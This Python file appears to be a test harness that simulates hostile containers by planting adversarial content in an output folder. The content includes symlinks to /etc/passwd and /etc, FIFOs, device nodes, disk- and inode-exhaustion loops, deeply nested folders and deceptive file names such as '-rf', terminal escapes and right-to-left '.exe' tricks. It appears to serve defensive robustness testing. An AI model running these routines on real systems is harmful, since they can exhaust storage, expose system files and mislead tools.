"""Attacks by what lies in /output."""

from __future__ import annotations

import contextlib
import os
import socket
import stat
import time
from pathlib import Path

from request import MIB, attempt


def linked(target):
    def act(request):
        request.folder.mkdir(exist_ok=True)
        os.symlink(target, request.file)
        request.say()

    return act


def link_to_earlier(request):
    """Give the answer of an earlier request, by a link."""
    request.folder.mkdir(exist_ok=True)
    earlier = [path for path in Path("/output").rglob("*.nii.gz") if path.is_file()]
    os.symlink(earlier[0] if earlier else "/output/none/liver.nii.gz", request.file)
    request.say()


def link_folder(request):
    """The folder of the answer is a link."""
    os.mkdir("/tmp/answers")
    os.symlink("/tmp/answers", request.folder)
    request.write()
    request.say()


def link_to_host(request):
    """The folder of the answer leads to a place that exists on the host too."""
    os.symlink("/etc", request.folder)
    request.say()


def hard_link(request):
    """Two names of one file, one of which can be changed while the other is read."""
    request.write()
    os.link(request.file, "/output/second-name")
    request.say()


def fifo(request):
    """A pipe, at which a reader would wait for ever."""
    request.folder.mkdir(exist_ok=True)
    os.mkfifo(request.file)
    request.say()


def socket_file(request):
    """A socket in the place of a mask."""
    request.folder.mkdir(exist_ok=True)
    os.chdir(request.folder)
    socket.socket(socket.AF_UNIX).bind(request.file.name)
    request.say()


def folder(request):
    """A folder in the place of a mask."""
    request.file.mkdir(parents=True)
    request.say()


def device(request):
    """A device in the place of a mask."""
    request.folder.mkdir(exist_ok=True)
    note = attempt(lambda: os.mknod(request.file, stat.S_IFCHR | 0o666, os.makedev(1, 5)))
    request.say(notes={"mknod": note})


def sparse(request):
    """A file that is large and takes no space."""
    request.folder.mkdir(exist_ok=True)
    with open(request.file, "wb") as file:
        file.write(b"\x1f\x8b")
        file.truncate(60 * MIB)
    request.say()


def huge_file(request):
    """Write until the disk is full."""
    request.write()
    block = bytes(MIB)
    with contextlib.suppress(OSError), open("/output/huge", "wb") as file:
        while True:
            file.write(block)
    request.say()


def reserved(request):
    """Reserve space without writing."""
    request.write()
    for number in range(64):
        with contextlib.suppress(OSError), open(f"/output/r{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 16 * MIB)
    request.say()


def unlinked(request):
    """Write to a file without a name."""
    request.write()
    with open("/output/hidden", "wb") as file:
        os.unlink("/output/hidden")
        with contextlib.suppress(OSError):
            while True:
                file.write(bytes(MIB))
        request.say()
        time.sleep(2)


def many_files(request):
    """Use up the inodes of the disk."""
    request.write()
    with contextlib.suppress(OSError):
        for number in range(300_000):
            os.close(os.open(f"/output/f{number}", os.O_CREAT | os.O_WRONLY))
    request.say()


def deep_folders(request):
    """Folders deeper than any path."""
    request.write()
    for _ in range(2000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/tmp")
    request.say()


def locked_folder(request):
    """Folders that their reader cannot list or remove."""
    request.write()
    os.mkdir("/output/locked")
    Path("/output/locked/x").write_bytes(bytes(MIB))
    os.chmod("/output/locked", 0)
    request.say()


def names(request):
    """Names with every trick: bytes that are no text, controls, formulas, cases, lengths."""
    request.write()
    for name in (
        b"\xff\xfe",
        b"\x1b[2J",
        "\u202egpj.exe".encode(),
        b"=1+1",
        b"-rf",
        b"a" * 255,
        b"new\nline",
        b"LIVER.nii.gz",
        b"liver.nii.gz",
        "\u00c5".encode(),
        "A\u030a".encode(),
        b"con",
        b"...",
    ):
        with open(b"/output/" + name, "wb"), contextlib.suppress(OSError):
            Path(os.fsdecode(bytes(request.folder) + b"/" + name)).write_bytes(b"x")
    request.say()


ATTACKS = {
    "link-to-passwd": linked("/etc/passwd"),
    "link-to-device": linked("/dev/zero"),
    "link-to-itself": linked("link-to-itself.nii.gz"),
    "link-to-input": linked("/input/requests"),
    "link-to-earlier": link_to_earlier,
    "link-folder": link_folder,
    "link-to-host": link_to_host,
    "hard-link": hard_link,
    "fifo": fifo,
    "socket-file": socket_file,
    "folder": folder,
    "device": device,
    "sparse": sparse,
    "huge-file": huge_file,
    "reserved": reserved,
    "unlinked": unlinked,
    "many-files": many_files,
    "deep-folders": deep_folders,
    "locked-folder": locked_folder,
    "names": names,
}
